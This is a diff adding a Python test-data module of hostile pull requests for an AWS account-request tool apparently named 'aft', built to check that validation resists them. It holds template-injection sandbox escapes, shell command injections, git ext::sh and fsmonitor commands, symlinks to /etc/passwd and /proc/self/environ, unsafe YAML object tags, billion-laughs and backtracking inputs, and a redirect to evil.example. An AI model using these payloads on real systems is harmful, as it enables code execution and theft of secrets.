@@ -1,0 +1,317 @@
+"""Hostile pull requests as data: the files somebody may put into one, and what must come of it.
+
+``CANARY`` stands for a file that any execution would make.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+from dataclasses import dataclass
+
+from builders_trees import LINK, MODULE, PROGRAM, Entry
+
+ANYTHING = (0, 3, 5)
+"""A plan, findings, or a refusal: never a crash, never an error of another kind."""
+EVIL = (
+    "{{ 7*7 }}{{ self.__init__.__globals__ }}{% for x in ().__class__.__base__.__subclasses__() %}"
+    "{{ x }}{% endfor %}{id.__class__.__mro__} $(touch CANARY) `touch CANARY` ; touch CANARY "
+    "${{ secrets.AWS }} ${{ github.token }} %{system} <!-- aft:plan --> @mallory "
+    "[x](https://evil.example) <script>touch('CANARY')</script>"
+)
+LINES = "first\\n::set-output name=x::y\\n::add-mask::aft\\n::error file=aft.yaml::pwned\\n# pwned"
+
+
+@dataclass(frozen=True, kw_only=True)
+class Case:
+    """``codes`` are the exit codes of validate that are right; ``says`` is in its output."""
+
+    entries: Mapping[bytes | str, Entry]
+    codes: tuple[int, ...] = ANYTHING
+    says: str = ""
+    comment_says: str = ""
+    comment_hides: str = "\0"
+
+
+def request(**fields: str) -> str:
+    """A request whose fields are what they are in YAML."""
+    values = {"name": "shop", "email": "aws+shop@example.com", "ou": "Sandbox", **fields}
+    return "".join(f"{name}: {value}\n" for name, value in values.items())
+
+
+def quoted(text: str) -> str:
+    return '"' + text.replace('"', '\\"') + '"'
+
+
+def asks(**fields: str) -> dict[bytes | str, Entry]:
+    return {"account-requests/shop.yaml": request(**fields)}
+
+
+def customization(files: Mapping[str, Entry]) -> dict[bytes | str, Entry]:
+    """One that the new account asks for, with these files."""
+    folder = "customizations/accounts/evil/"
+    return {**asks(customizations="[evil]"), **{folder + k: v for k, v in files.items()}}
+
+
+FIELDS = {
+    "name": "{}",
+    "email": "{}",
+    "ou": "{}",
+    "owner": "{{team: {}, email: {}}}",
+    "reason": "{}",
+    "ticket": "{}",
+    "tags": "{{{}: {}}}",
+    "custom_fields": "{{{}: {}}}",
+    "budget": "{{monthly_usd: 1, subscribers: [{}]}}",
+    "contacts": "{{billing: {{name: {}, title: {}, email: {}, phone: {}}}}}",
+    "baseline": "{}",
+    "customizations": "[{}]",
+    "depends_on": "[{}]",
+    "regions": "[{}]",
+    "expires": "{}",
+    "account_id": "{}",
+    "previously": "{}",
+    "access": "[{{group: {}, permission_set: {}}}]",
+    "unknown_key": "{}",
+}
+
+
+def filled(template: str, text: str) -> str:
+    return template.replace("{}", quoted(text)).replace("{{", "{").replace("}}", "}")
+
+
+def fields_with(text: str) -> dict[str, Case]:
+    return {
+        name: Case(entries=asks(**{name: filled(template, text)}))
+        for name, template in FIELDS.items()
+    }
+
+
+PYTHON = """\
+import os
+os.system('touch CANARY')
+open('CANARY', 'w')
+
+def customize(context):
+    os.system('touch CANARY')
+"""
+SHADOWS = (
+    *("sitecustomize.py", "usercustomize.py", "aft/__init__.py", "aft/cli/main.py"),
+    *("conftest.py", "setup.py", "yaml.py", "click.py"),
+)
+STACK = """\
+Resources:
+  Topic:
+    Type: AWS::SNS::Topic
+    Properties:
+      TopicName: "{{ %s }}"
+"""
+CASES: dict[str, Case] = {
+    **{f"template in {name}": case for name, case in fields_with(EVIL).items()},
+    **{f"lines in {name}": case for name, case in fields_with(LINES).items()},
+    # --- what would be executed -----------------------------------------------------------
+    "python in a customization": Case(entries=customization({"10-x.py": PYTHON}), codes=(0,)),
+    "python that is found broken": Case(entries=customization({"10-x.py": PYTHON + "def ("})),
+    "shell in a customization": Case(
+        entries=customization({"pre-api-helpers.sh": (PROGRAM, b"#!/bin/sh\ntouch CANARY\n")})
+    ),
+    "terraform in a customization": Case(
+        entries=customization(
+            {
+                "terraform/main.tf": 'data "external" "x" { program = ["touch", "CANARY"] }\n',
+                "terraform/aft-providers.jinja": "{{ cycler.__init__.__globals__.os }}",
+            }
+        )
+    ),
+    **{
+        f"jinja: {code[:40]}": Case(entries=customization({"10-x.cfn.yaml": STACK % code}))
+        for code in (
+            "cycler.__init__.__globals__.os.popen('touch CANARY').read()",
+            "self._TemplateReference__context",
+            "''.__class__.__mro__[1].__subclasses__()",
+            "namespace.__init__.__globals__",
+            "range(10**9) | list",
+            "('x' * 10**9) | length",
+        )
+    },
+    "python modules beside aft's": Case(
+        entries=dict.fromkeys(SHADOWS, "import os; os.system('touch CANARY')\n")
+    ),
+    "a package with a plug-in": Case(
+        entries={
+            "pyproject.toml": '[project.entry-points."aft.baseline_settings"]\nx = "evil:X"\n',
+            "evil.py": "open('CANARY', 'w')\n",
+            "aft-1.dist-info/entry_points.txt": "[aft.baseline_settings]\nx = evil:X\n",
+            "customizations/baselines/standard.yaml": "select: {organizational_units: [Sandbox]}\n"
+            "settings: [{setting: x}]\n",
+        },
+        codes=(3,),
+    ),
+    "yaml that makes objects": Case(
+        entries=asks(reason="!!python/object/apply:os.system ['touch CANARY']"), codes=(3,)
+    ),
+    # --- who and where to -----------------------------------------------------------------
+    "another role, ledger and program": Case(
+        entries={
+            "aft.yaml": "version: 1\nhome_region: eu-central-1\n"
+            "roles: {member: Evil, management: 'arn:aws:iam::210987654321:role/Evil'}\n"
+            'ledger: {branch: evil, remote: "ext::sh -c touch% CANARY"}\n'
+            "terraform: {binary: ./evil.sh}\n"
+            "github: {require_signatures: false}\n",
+            "evil.sh": (PROGRAM, b"#!/bin/sh\ntouch CANARY\n"),
+            **asks(),
+        },
+        says="takes effect after the merge",
+    ),
+    "everything unmasked": Case(
+        entries={
+            "aft.yaml": "version: 1\nhome_region: eu-central-1\nreport: {mask: []}\n",
+            **asks(),
+        },
+        says="takes effect after the merge",
+        comment_hides="aws+shop@example.com",
+    ),
+    "a configuration of aft's own": Case(
+        entries={".aft/config.yaml": "roles: {member: Evil}\n", ".aft/cache": "x", **asks()},
+        codes=(0,),
+    ),
+    "another simulated organization": Case(
+        entries={".env": "AFT_SANDBOX_STATE=/tmp/evil\nAWS_ENDPOINT_URL=http://evil.example\n"},
+        codes=(0,),
+    ),
+    # --- git --------------------------------------------------------------------------------
+    "a link to a file of the machine": Case(
+        entries={"account-requests/shop.yaml": (LINK, b"/proc/self/environ")}
+    ),
+    "a link out of the repository": Case(
+        entries={"account-requests/shop.yaml": (LINK, b"../../../../etc/passwd")}
+    ),
+    "a folder that is a link": Case(entries={"account-requests": (LINK, b"/etc")}),
+    "a link as aft.yaml": Case(entries={"aft.yaml": (LINK, b"/etc/passwd")}),
+    "links in a circle": Case(
+        entries={
+            "account-requests/a.yaml": (LINK, b"b.yaml"),
+            "account-requests/b.yaml": (LINK, b"a.yaml"),
+        }
+    ),
+    "a link in a customization": Case(
+        entries=customization({"10-x.cfn.yaml": (LINK, b"/proc/self/environ")})
+    ),
+    "a submodule": Case(
+        entries={
+            ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch% CANARY\n',
+            "account-requests/x": (MODULE, b"1" * 40),
+            "customizations/accounts/x": (MODULE, b"2" * 40),
+            **asks(),
+        }
+    ),
+    "filters, hooks and attributes": Case(
+        entries={
+            ".gitattributes": "* filter=evil diff=evil merge=evil working-tree-encoding=UTF-16\n",
+            ".gitconfig": '[filter "evil"]\n\tsmudge = touch CANARY\n',
+            ".githooks/post-checkout": (PROGRAM, b"#!/bin/sh\ntouch CANARY\n"),
+            ".lfsconfig": "[lfs]\n\turl = http://evil.example\n",
+            **asks(),
+        },
+        codes=(0,),
+    ),
+    "a .git folder in the tree": Case(
+        entries={
+            b".git/config": "[core]\n\tfsmonitor = touch CANARY\n",
+            b".git/hooks/post-checkout": (PROGRAM, b"#!/bin/sh\ntouch CANARY\n"),
+            b"account-requests/.GIT/config": "x",
+            b"account-requests/git~1/config": "x",
+            **asks(),
+        }
+    ),
+    "parents in paths": Case(
+        entries={b"account-requests/../shop.yaml": "x: 1\n", b"../CANARY": "x", b"./x.yaml": "x"}
+    ),
+    "absolute and empty names": Case(
+        entries={b"account-requests//shop.yaml": "x: 1\n", b"/CANARY": "x"}
+    ),
+    "control characters in names": Case(
+        entries={
+            b"account-requests/a\n::error file=aft.yaml::pwned.yaml": "x: 1\n",
+            b"account-requests/a\r::add-mask::aft.yaml": "x: 1\n",
+            b"account-requests/\x1b]0;pwned\x07.yaml": "x: 1\n",
+            b"account-requests/%0A::error::pwned.yaml": "x: 1\n",
+        },
+        codes=(3,),
+    ),
+    "names that are no UTF-8, or read backwards": Case(
+        entries={
+            b"account-requests/\xff\xfe.yaml": "x: 1\n",
+            "account-requests/\u202egpj.yaml": "x: 1\n",
+        },
+        codes=(3,),
+    ),
+    "names that differ in case alone": Case(
+        entries={
+            "account-requests/Shop.yaml": request(),
+            "account-requests/shop.yaml": request(),
+            "Account-Requests/x.yaml": request(),
+        },
+        codes=(3,),
+    ),
+    "markup in a name": Case(
+        entries={
+            "account-requests/<img src=x> @mallory [x](https:evil.example).yaml": "x: 1\n",
+        },
+        codes=(3,),
+    ),
+    # --- more than anybody can read ---------------------------------------------------------
+    "a huge file": Case(entries=asks(reason="x" * 8_000_000), codes=(3,)),
+    "a huge name": Case(entries={f"account-requests/{'x' * 4000}.yaml": request()}),
+    "a billion laughs": Case(
+        entries={
+            "account-requests/shop.yaml": "a: &a [x,x,x,x,x,x,x,x,x]\n"
+            + "".join(
+                f"{new}: &{new} [{','.join([f'*{old}'] * 9)}]\n"
+                for old, new in zip("abcdefgh", "bcdefghi", strict=True)
+            )
+        },
+        codes=(3,),
+    ),
+    "deep nesting": Case(entries=asks(custom_fields="[" * 50_000), codes=(3,)),
+    "deep nesting in blocks": Case(
+        entries={"account-requests/shop.yaml": "".join(f"{' ' * n}a:\n" for n in range(1500))},
+        codes=(3,),
+    ),
+    "a number that takes for ever": Case(entries=asks(custom_fields="{n: " + "9" * 100_000 + "}")),
+    "an expression that backtracks": Case(
+        entries=asks(email=quoted("a." * 50_000 + "@"), name=quoted("a-" * 50_000))
+    ),
+    "NUL, marks and other encodings": Case(
+        entries={
+            "account-requests/a.yaml": b"name: a\0b\n",
+            "account-requests/b.yaml": "name: b\n".encode("utf-16"),
+            "account-requests/c.yaml": b"\xff\xfe\x00name",
+            "account-requests/d.yaml": b"\xef\xbb\xbfname: d\n",
+        },
+        codes=(3,),
+    ),
+    "keys that come twice": Case(
+        entries={"account-requests/shop.yaml": request() + "ou: Workloads/Prod\n<<: {a: b}\n"},
+        codes=(3,),
+    ),
+    "many findings": Case(
+        entries={f"account-requests/x{n}.yaml": "ou: Nowhere\n" for n in range(300)}, codes=(3,)
+    ),
+    "everything taken away": Case(
+        entries={"aft.yaml": "", "customizations": "x", "account-requests": "y"}
+    ),
+    "the ledger's files on main": Case(
+        entries={
+            "bindings/lab.json": '{"account_id": "000000000001"}',
+            "events/0.json": "{}",
+            "snapshot.json": "{}",
+            **asks(),
+        },
+        codes=(0,),
+        comment_says="1 to create",
+    ),
+    "a spoofed review": Case(
+        entries={"reviewed.json": '{"changes": []}', "comment.md": "<!-- aft:plan --> pwned"},
+        codes=(0,),
+    ),
+}
